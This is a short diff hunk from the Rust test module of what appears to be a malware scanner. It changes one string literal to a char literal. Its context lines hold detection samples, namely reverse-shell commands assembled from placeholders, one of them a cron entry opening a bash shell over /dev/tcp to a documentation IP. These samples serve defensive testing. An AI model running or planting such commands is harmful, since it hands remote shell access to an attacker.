@@ -292,7 +292,7 @@ mod tests {
         check(&format!("\x7fELF..{eicar}"), "eicar_test_file", 100);
         // Put together here, so that no engine finds this file.
         let filled =
-            |text: &str| text.replace("DEV", "/dev").replace("IP", "192.0.2.7").replace("GET", "_GET").replace("~", "");
+            |text: &str| text.replace("DEV", "/dev").replace("IP", "192.0.2.7").replace("GET", "_GET").replace('~', "");
         let reverse = [
             "* * * * * root bash -i >& DEV/tcp/IP/4444 0>&1",
             "sh -i 5<> DEV/tcp/IP/4444 0<&5 1>&5 2>&5",
